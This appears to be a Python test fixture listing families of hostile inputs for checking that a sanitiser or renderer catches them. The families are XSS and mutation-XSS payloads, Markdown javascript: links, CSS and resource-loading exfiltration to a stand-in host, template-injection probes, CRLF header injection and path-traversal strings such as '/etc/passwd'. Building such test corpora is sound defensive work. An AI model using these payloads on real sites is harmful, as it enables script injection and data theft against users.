"""What someone who means harm might type, in families. `RAN` calls the watcher, `AWAY` is an address on another host.

Of our own writing. What is `LIVE` acts, or would at a touch, as soon as it stands raw in a page: the control shows that
each of them is noticed. What is `MARKDOWN` acts once it is rendered without a check. The others do harm elsewhere:
in a template, a header or a parser.
"""

LIVE = {
    "tags": [
        "<script>RAN</script>", "<SCRIPT>RAN</SCRIPT>", "<script >RAN</script >", "<script\t>RAN</script\n>",
        "<script/x>RAN</script>", "<script type=module>RAN</script>", "<script src=AWAY></script>",
        "<script src=//elsewhere.example/x.js></script>", "<script>RAN<!--", "<<script>RAN//<</script>",
        "<script>/*<!--*/RAN//--></script>", "<iframe src=javascript:RAN></iframe>",
        "<iframe srcdoc='<script>parent.RAN</script>'></iframe>", "<iframe src=AWAY></iframe>",
        "<object data=AWAY></object>", "<object data=javascript:RAN></object>", "<embed src=AWAY>",
        "<embed src=javascript:RAN>", "<base href=AWAY>", "<link rel=stylesheet href=AWAY>",
        "<link rel=preload as=image href=AWAY>", "<link rel=prefetch href=AWAY>", "<link rel=dns-prefetch href=AWAY>",
        "<meta http-equiv=refresh content='0;url=AWAY'>", "<meta http-equiv=refresh content='9;javascript:RAN'>",
        "<portal src=AWAY></portal>", "<frameset onload=RAN>", "<applet code=AWAY></applet>",
        "<dialog open onclose=RAN>", "<fencedframe src=AWAY></fencedframe>",
        "<noscript><img src=x onerror=RAN></noscript><img src=x onerror=RAN>",
    ],
    "events": [
        "<img src=x onerror=RAN>", "<img src=x onerror='RAN'>", '<img src="x" onerror="RAN">',
        "<img src=x:x onerror=RAN>", "<img/src='x'/onerror=RAN>", "<img\nsrc=x\nonerror\n=\nRAN>",
        "<img src=x OnErRoR=RAN>", "<IMG SRC=x ONERROR=RAN>", "<img src=x onerror=RAN//", "<body onload=RAN>",
        "<body onpageshow=RAN>", "<svg onload=RAN>", "<svg/onload=RAN>", "<input autofocus onfocus=RAN>",
        "<select autofocus onfocus=RAN></select>", "<a onmouseover=RAN>here</a>",
        "<textarea autofocus onfocus=RAN></textarea>", "<details open ontoggle=RAN>",
        "<video><source onerror=RAN></video>", "<video src=x onerror=RAN></video>", "<audio src=x onerror=RAN></audio>",
        "<marquee onstart=RAN>x</marquee>", "<p onclick=RAN>here</p>", "<div onpointerenter=RAN>here</div>",
        "<b onwheel=RAN tabindex=1>here</b>", "<x onclick=RAN>here</x>",
        "<x contenteditable onbeforeinput=RAN>here</x>", "<form onsubmit=RAN><button>here</form>",
        "<style onload=RAN></style>", "<object onerror=RAN data=x></object>",
        "<div style='animation:a' onanimationend=RAN>", "<img src=x onerror=&#82;&#65;&#78;>",
        "<img src=x onerror=\x0bRAN>", "<button popovertarget=x onclick=RAN>here</button>",
        "<div popover onbeforetoggle=RAN id=x>", "<img src=x onerror=eval(atob('MQ=='));RAN>",
        "<input type=image src=x onerror=RAN>",
    ],
    "out of an attribute": [
        '" onfocus=RAN autofocus x="', "' onfocus=RAN autofocus x='", '"><script>RAN</script>',
        "'><script>RAN</script>", '"><img src=x onerror=RAN>', "'><img src=x onerror=RAN>", '" autofocus onfocus="RAN',
        "x onmouseover=RAN y", '"/><svg onload=RAN>', '\\"><script>RAN</script>', "&quot;><script>RAN</script>",
        '"\n><svg onload=RAN>',
    ],
    "SVG and MathML": [
        "<svg><script>RAN</script></svg>", "<svg><script href=AWAY /></svg>", "<svg><image href=AWAY /></svg>",
        "<svg><a xlink:href=javascript:RAN><text x=9 y=9>here</text></a></svg>", "<svg><use href=AWAY#x /></svg>",
        "<svg><animate onbegin=RAN attributeName=x dur=1s></svg>", "<svg><set onbegin=RAN attributename=x></svg>",
        "<svg><a><animate attributeName=href values=javascript:RAN /><text x=9 y=9>here</text></a></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.RAN</script>'></iframe></foreignObject></svg>",
        "<svg><style>@import 'AWAY';</style></svg>", "<svg><feImage href=AWAY /></svg>",
        "<svg><title><script>RAN</script></title></svg>", "<svg><desc><img src=x onerror=RAN></desc></svg>",
        "<math href=javascript:RAN>here</math>", "<math><mi xlink:href=javascript:RAN>here</mi></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:RAN>here</maction></math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=RAN></annotation-xml></math>",
    ],
    "that change as they are parsed": [
        "<noscript><p title='</noscript><img src=x onerror=RAN>'>",
        "<svg></p><style><a id='</style><img src=x onerror=RAN>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title"
        "='--&gt;&lt;img src=x onerror=RAN&gt;' src=x onerror=RAN>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RAN>",
        "<math><annotation-xml encoding='text/html'><p><style><img src='</style><img src=x onerror=RAN//'>",
        "<svg><style><img title='</style><img src=x onerror=RAN>'>",
        "<table><td><style></table><img src=x onerror=RAN></style><img src=x onerror=RAN>",
        "<textarea><p title='</textarea><img src=x onerror=RAN>'>",
        "<title><p title='</title><img src=x onerror=RAN>'>", "<xmp><p title='</xmp><img src=x onerror=RAN>'>",
        "<noembed><p title='</noembed><img src=x onerror=RAN>'>", "<style><p title='</style><img src=x onerror=RAN>'>",
        "<select><option><style></option></select><img src=x onerror=RAN></style>",
        "<svg><desc><p><style><img src='</style><img src=x onerror=RAN>'>",
        "<template><s></template><img src=x onerror=RAN>",
        "<listing>&lt;img src=x&gt;<img src=x onerror=RAN></listing>", "<p><svg><p><img src=x onerror=RAN>",
    ],
    "broken": [
        "<img src=x onerror=RAN", "<p/><img src=x onerror=RAN", "<!--><img src=x onerror=RAN>-->",
        "<!---><img src=x onerror=RAN>-->", "<!--!><img src=x onerror=RAN--!><img src=x onerror=RAN>",
        "<![CDATA[><img src=x onerror=RAN>]]>", "<?xml ?><img src=x onerror=RAN>",
        "</p></div></main></body></html><script>RAN</script>", "</textarea><script>RAN</script>",
        "</title><script>RAN</script>", "</style><script>RAN</script>", "</script><script>RAN</script>",
        "--><script>RAN</script>", "]]><script>RAN</script>", "<b><i><a href=x></b><img src=x onerror=RAN></i>",
        "<p <p><img src=x onerror=RAN>", "</b/><img/src='x'/onerror=RAN>", "<img src=x onerror=RAN\x0c>",
        "<a href='x'onclick='RAN'>here</a>", '<img """><script>RAN</script>">',
    ],
    "CSS": [
        "<style>@import 'AWAY';</style>", "<style>body{background:url(AWAY)}</style>",
        "<p style='background:url(AWAY)'>x</p>", "<p style=background-image:image-set('AWAY'1x)>x</p>",
        "<style>*{cursor:url(AWAY),auto}</style>", "<p style='position:fixed;inset:0;z-index:99'>over everything</p>",
        "<style>input[value^=a]{background:url(AWAY)}</style>", "<ul style='list-style:url(AWAY)'><li>x</ul>",
        "<p style='width:expression(RAN)'>x</p>", "<table background=AWAY><td>x</table>",
        "<style>@font-face{font-family:x;src:url(AWAY)}body{font-family:x}</style>",
        '<div style=\'content:"</div><script>RAN</script>\'>',
    ],
    "that send something": [
        "<img src=AWAY>", "<img srcset='AWAY 1x'>", "<picture><source srcset=AWAY><img></picture>",
        "<video poster=AWAY></video>", "<video src=AWAY></video>", "<audio src=AWAY autoplay></audio>",
        "<form action=AWAY><button>here</form>", "<form id=f></form><button form=f formaction=AWAY>here</button>",
        "<form action=javascript:RAN><button>here</form>", "<button formaction=javascript:RAN>here</button>",
        "<a href=/ ping=AWAY>here</a>", "<input type=image src=AWAY>", "<video><track default src=AWAY></video>",
        "<body background=AWAY>",
    ],
    "addresses": [
        "<a href=javascript:RAN>here</a>", "<a href=JaVaScRiPt:RAN>here</a>", "<a href='java\tscript:RAN'>here</a>",
        "<a href='java\nscript:RAN'>here</a>", "<a href=' \x01javascript:RAN'>here</a>",
        "<a href=&#106;avascript:RAN>here</a>", "<a href=&#x6A;avascript:RAN>here</a>",
        "<a href=javascript&colon;RAN>here</a>", "<a href=java&Tab;script&NewLine;:RAN>here</a>",
        "<a href='data:text/html,<script>RAN</script>'>here</a>",
        "<a href='DATA:text/html;base64,PHNjcmlwdD4='>here</a>", "<a href=vbscript:RAN>here</a>",
        "<a href=javascript://%0aRAN>here</a>", "<area href=javascript:RAN>",
        "<a href=blob:https://elsewhere.example/1>here</a>", "<a href=javascript:123>here</a>",
    ],
}  # fmt: skip
MARKDOWN = {
    "links": [
        "[here](javascript:RAN)", "[here](JAVASCRIPT:RAN)", "[here](<javascript:RAN>)", "[here](\tjavascript:RAN)",
        "[here](javascript&colon;RAN)", "[here](&#106;avascript:RAN)", "[here](&#x6A;&#x61;vascript:RAN)",
        "[here](javascript://x%0aRAN)", "[here](vbscript:RAN)", "[here](data:text/html,<script>RAN</script>)",
        "[here](data:text/html;base64,PHNjcmlwdD4=)", "[here](file:///etc/passwd)", "[here](javascript:RAN 'a title')",
        "[![here](x)](javascript:RAN)", "[a][1]\n\n[1]: javascript:RAN", "[1]\n\n[1]: <javascript:RAN>",
        "[a]\n\n[a]: data:text/html,x", "<javascript:RAN>", "<JAVASCRIPT:RAN>", "<data:text/html,x>",
        "[here](blob:https://elsewhere.example/1)", "[here](javascript:123)",
    ],
    "pictures and raw HTML": [
        "![x](AWAY)", "![x](AWAY 'a title')", "![x](//elsewhere.example/x.png)", "![a][1]\n\n[1]: AWAY",
        '![x" onerror="RAN](AWAY)', "**<img src=x onerror=RAN>**", "> <script>RAN</script>",
        "- <img src=x onerror=RAN>", "|a|\n|-|\n|<img src=x onerror=RAN>|", "# <svg onload=RAN>",
        "a\n\n<script>\nRAN\n</script>", "<div>\n*x*\n<img src=x onerror=RAN>", "[<img src=x onerror=RAN>](x)",
        "~~<svg onload=RAN>~~", "1. <script>RAN</script>", "x  \n<img src=x onerror=RAN>",
    ],
}  # fmt: skip
ELSEWHERE = {
    "escaped already, which must stay words": [
        "&lt;script&gt;RAN&lt;/script&gt;", "&amp;lt;script&amp;gt;RAN", "[here](java&Tab;script:RAN)",
        "&#60;img src=x onerror=RAN&#62;", "%3Cscript%3ERAN%3C/script%3E",
        "\\u003cscript\\u003eRAN\\u003c/script\\u003e", "\\x3cimg src=x onerror=RAN\\x3e",
        "+ADw-script+AD4-RAN+ADw-/script+AD4-", "＜script＞RAN＜/script＞", "‹script›RAN‹/script›",
        "¼script¾RAN¼/script¾",
        "&#0000060img src=x onerror=RAN>", "﹤script﹥RAN",
    ],
    "that act once something was taken out": [
        "<scr<script>ipt>RAN</script>", "<scr<script></script>ipt>RAN</script>", "<<b>script>RAN<</b>/script>",
        "<im<b>g src=x onerror=RAN>", "java<b></b>script:RAN", "<scr\x00ipt>RAN</scr\x00ipt>",
        "<a href=java<!-- -->script:RAN>here</a>",
    ],
    "out of a script": [
        "';RAN;'", '";RAN;"', "`${RAN}`", "\\';RAN;//", "</script>RAN", "*/RAN/*", "{}};RAN;//", "\u2028RAN\u2029",
    ],
    "templates": [
        "{{ 1337 * 7331 }}", "{% print(1337 * 7331) %}", "${1337 * 7331}", "#{1337 * 7331}", "<%= 1337 * 7331 %>",
        "{{config}}", "{{ ''.__class__.__mro__ }}", "{{request.application}}", "%(secret)s %s %d %n %x",
        "{0.__class__.__init__.__globals__}", "{name} {count} {words}", "{{constructor.constructor('RAN')()}}",
        "[[${1337*7331}]]", "$& $` $' $1 $<x>",
    ],
    "scripts and libraries that read a page": [
        "<a hx-get=/sign-out hx-trigger=load>x</a>", "<p data-hx-get=AWAY data-hx-trigger=load>x</p>",
        "<p hx-on:load=RAN>x</p>", "<p data-own=x data-post=x data-card=x>x</p>",
        "<form data-move action=/rooms/x></form>", "<p x-data x-init=RAN>x</p>", "<p ng-app>{{1337*7331}}</p>",
        "<a id=attributes name=body>x</a>", "<form name=getElementById><input name=elements></form>",
        "<p class='hush skip' id=main>x</p>", "<textarea data-draft=x data-draft-away=AWAY>x</textarea>",
        "<p data-nudge-rules=AWAY>x</p>",
    ],
    "headers": [
        "x\r\nBcc: all@elsewhere.example", "x\nSubject: other", "x%0d%0aSet-Cookie: a=b",
        "x\r\n\r\n<script>RAN</script>", 'x"; filename="x.html', "x; filename*=UTF-8''x.html", "../../etc/passwd",
        "..\\..\\x.html", "x.html\x00.txt", "x\u2028Bcc: a@b", "=?utf-8?q?=0d=0aBcc:_x@elsewhere.example?=",
        "Ana =?utf-8?b?DQpCY2M6IHg=?=", "=?utf-8?q?=0d=0a=0d=0a<script>RAN</script>?=",
        "x\x0b\x0cBcc: all@elsewhere.example", '=HYPERLINK("AWAY")', "END:VCALENDAR\r\nBEGIN:VEVENT",
    ],
    "polyglots": [
        'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+RAN//\'>',
        '"\'--></style></script><svg onload=RAN>', '\';RAN//";RAN//--></script>">\'><img src=x onerror=RAN>',
        '\'"()&%<zzz><script>RAN</script>', '-->\'"/></sCript><deTailS open ontoggle=RAN>',
    ],
    "letters": [
        "a\u202egnp.exe", "\u2067\u2066x\u2069",
        "h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴"
        "h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴h̶҉̴",
        "\u200b\u200c\u200d\u2060", "\ufeffx", "x\x00y", "\ud7ff\ue000", "﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽", "ﷺ́",
        "🏳️\u200d🌈👩\u200d👩\u200d👧\u200d👦", "İıſK", "ñ", "̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀̀", "\x1b[31mred",
        "\x7f\x80\x9f", "\U000e0001\U000e0041",
    ],
}  # fmt: skip
FAMILIES = LIVE | MARKDOWN | ELSEWHERE


def said(vector: str, number: int) -> str:
    """As someone would type it, with the number by which it is known if it acts."""
    return vector.replace("RAN", f"ran({number})").replace("AWAY", f"https://elsewhere.example/{number}")


def of(families: dict[str, list[str]]) -> list[str]:
    return [said(one, number) for number, one in enumerate(one for family in families.values() for one in family)]
